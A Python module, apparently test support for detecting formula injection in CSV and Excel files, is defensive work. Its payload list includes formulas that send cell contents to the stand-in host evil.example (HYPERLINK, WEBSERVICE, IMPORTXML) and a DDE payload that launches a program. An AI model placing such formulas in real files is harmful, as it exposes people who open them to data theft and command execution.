"""Texts that a spreadsheet could run, and what finds them in a file (S-12)."""

from __future__ import annotations

import csv
import re
import unicodedata
import zipfile
from io import BytesIO, StringIO

from openpyxl import load_workbook

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2003\u200d\u2060 =1+1",
    "a\n=1+1",
    "a\r\n\t -1+1",
    "a\u2028=1+1",
    "a\x0b@SUM(1)",
    "a;=1+1",
    "a\t=1+1",
    '","=1+1',
    '=HYPERLINK("https://evil.example?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(\"https://evil.example\")",
    "=IMPORTXML(CONCAT(\"https://evil.example?\",A1),\"//a\")",
    "\x00=1+1",
    "\u202e=1+1",
    "'=1+1\n=2+2",
    "\t",
    "\r\n",
)  # fmt: skip


DANGEROUS = set("=+-@\t\r\n＝＋－＠")


UNSEEN = "\u00a0\u200b\u200c\u200d\u2060\ufeff\u00ad\u200e\u200f\u202e\u0000"


def begins_like_a_formula(cell: str) -> bool:
    """The rule of the trust page: on each line, after blanks and signs without width."""
    lines = re.split(r"\r\n|[\r\n\x0b\x0c\x1c-\x1e\x85\u2028\u2029]", cell)
    if cell and cell[0] in "\t\r\n":
        return True
    for line in lines:
        seen = line.lstrip(" ")
        while seen and (seen[0] in UNSEEN or unicodedata.category(seen[0]) in ("Zs", "Cf")):
            seen = seen[1:]
        if seen[:1] in DANGEROUS and seen:
            return True
    return False


def live_in_csv(content: bytes) -> int:
    """Cells that a spreadsheet would run, whether it parts them by commas or by semicolons."""
    text = content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]
    cells += [part for cell in cells for part in cell.split(";")]
    return sum(map(begins_like_a_formula, cells))


def live_in_excel(content: bytes) -> int:
    """Formulas, links to elsewhere, and cells that hold a text as anything but a text."""
    with zipfile.ZipFile(BytesIO(content)) as parts:
        names = parts.namelist()
        sheets = [parts.read(name).decode() for name in names if name.startswith("xl/worksheets/")]
    live = sum(sheet.count("<f>") + sheet.count("<f ") + sheet.count("<hyperlink") for sheet in sheets)
    live += sum("externalLink" in name for name in names)
    for sheet in load_workbook(BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            live += sum(cell.data_type not in ("s", "n", "d", "inlineStr") for cell in row)
    return live
